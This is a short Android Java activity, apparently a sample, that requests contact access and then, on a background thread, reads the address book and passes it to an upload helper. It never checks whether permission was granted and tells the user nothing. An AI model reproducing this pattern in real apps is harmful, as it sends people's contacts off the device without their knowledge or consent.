package com.example.okhttp;

import android.app.Activity;
import android.os.Bundle;

/** Uploads on a thread of its own after the grant. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        requestPermissions(new String[] {"android.permission.READ_CONTACTS"}, 1);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        new Thread(() -> Upload.send(Book.read(this))).start();
    }
}
